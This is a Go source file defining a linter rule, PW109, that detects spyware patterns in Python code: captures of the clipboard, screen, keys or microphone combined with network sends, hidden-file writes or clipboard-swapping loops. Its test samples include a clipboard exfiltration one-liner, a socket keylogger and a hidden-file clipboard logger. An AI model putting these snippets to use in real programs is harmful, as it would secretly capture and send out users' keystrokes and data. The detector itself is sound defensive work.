package rules

import (
	"strings"

	"github.com/pyward/pyward/python/ast"
)

// spyState is what PW109 gathers in a file: the capture calls, and the
// first call that sends data off the host or writes a hidden file.
// savedPath is the path a capture is saved to by an image, video or
// audio writer: cv2.imwrite(p, frame), img.save(p), mss.tools.to_png(...,
// output=p), soundfile.write(p, ...), wavio.write(p, ...).
// spyNoted reports whether PW109 looks at a call of q (method: the
// attribute called): a capture, a send, a write, a save or a clipboard
// swap, by the names captureOf, sends, writeTarget, savedPath and
// clipboardSwap check.
func spyNoted(q, method string) bool {
	switch method {
	case "imwrite", "save", "write", "to_png":
		return true
	}
	return captureName(q, method) || sendingCalls[q] || sendingMethods[method] || writeTargetName(q, method) ||
		q == "pyperclip.copy" || q == "win32clipboard.SetClipboardText" || q == "win32clipboard.SetClipboardData" ||
		lastPart(q) == "clipboard_append"
}

func savedPath(c *Context, call *ast.Call) ast.Expr {
	a, ok := call.Func.(*ast.Attribute)
	if !ok {
		return nil
	}
	switch a.Attr {
	case "imwrite", "save", "write":
		if a.Attr == "write" && !strings.Contains(c.CallName(call), "soundfile") && !strings.Contains(c.CallName(call), "wav") {
			return nil
		}
		if len(call.Args) > 0 {
			return call.Args[0]
		}
	case "to_png":
		return Keyword(call, "output")
	}
	return nil
}

// clipboardSwap: the clipboard is set to a constant (a literal or a
// module-level name holding one) by a call inside a while loop, the
// address-swapping loop of crypto-clipboard hijackers.
func (c *Context) clipboardSwap(call *ast.Call) bool {
	q := c.CallName(call)
	if q != "pyperclip.copy" && q != "win32clipboard.SetClipboardText" && q != "win32clipboard.SetClipboardData" && lastPart(q) != "clipboard_append" {
		return false
	}
	if len(call.Args) == 0 || !c.inWhile(call) {
		return false
	}
	_, _, ok := c.foldVar(call.Args[len(call.Args)-1])
	return ok
}

type spyState struct {
	captures []*ast.Call
	what     []string
	outlet   string
}

func init() {
	Register(&Rule{
		ID: "PW109", Name: "spyware", Severity: High, Confidence: Medium, CWE: 359,
		Message:        "what the user sees, types or says is captured and sent off the host or hidden in a file",
		Recommendation: "Remove it; if capturing is the program's purpose, say so and keep the data on the machine, in plain sight.",
		Help: "A clipboard read, screenshot, keylogger hook, webcam or microphone capture (see PW502) in a file that also sends data off " +
			"the host (an HTTP request with a body, a socket or mail send, a chat webhook, an upload) or writes a hidden file: the " +
			"shape of clipboard hijackers, screen grabbers and keyloggers found in malicious packages. Keyloggers hand the keys to a " +
			"callback, so the capture and the send are judged in the same file rather than along one value's path.",
		Flagged: []string{
			"import pyperclip, requests\nrequests.post(url, data={'c': pyperclip.paste()})\n",
			"from pynput import keyboard\nimport socket\ns = socket.create_connection((host, 9001))\nkeyboard.Listener(on_press=lambda k: s.send(str(k).encode())).start()\n",
			"import os, pyperclip\nwith open(os.path.expanduser('~/.cache/.clip'), 'a') as f:\n    f.write(pyperclip.paste())\n",
		},
		Clean:    []string{"from PIL import ImageGrab\nImageGrab.grab().save('screenshot.png')\n", "import requests\nrequests.post(url, json=report)\n"},
		Kinds:    []Kind{KindCall, KindEnd},
		CallWhen: func(q, method string) bool { return spyNoted(q, method) },
		Check: func(c *Context, n ast.Node) {
			st := c.state(func() any { return &spyState{} }).(*spyState)
			call, ok := n.(*ast.Call)
			if !ok {
				if st.outlet == "" {
					return
				}
				for i, cap := range st.captures {
					c.ReportWith(cap, c.rule.Severity, c.rule.Confidence, "the code captures "+st.what[i]+" and "+st.outlet)
				}
				return
			}
			if what, ok := c.captureOf(call); ok {
				st.captures = append(st.captures, call)
				st.what = append(st.what, what)
				return
			}
			if st.outlet != "" {
				return
			}
			if c.sends(call) {
				st.outlet = "the file sends data off the host"
			} else if p, what, ok := c.writeTarget(call); ok && what == "writes" && hiddenPath(c.pathText(p)) {
				st.outlet = "the file writes a hidden file"
			} else if p := savedPath(c, call); p != nil && hiddenPath(c.pathText(p)) {
				st.outlet = "the file saves a capture to a hidden file"
			} else if c.clipboardSwap(call) {
				st.outlet = "the file puts its own text on the clipboard in a polling loop: a clipboard hijacker"
			}
		},
	})
}
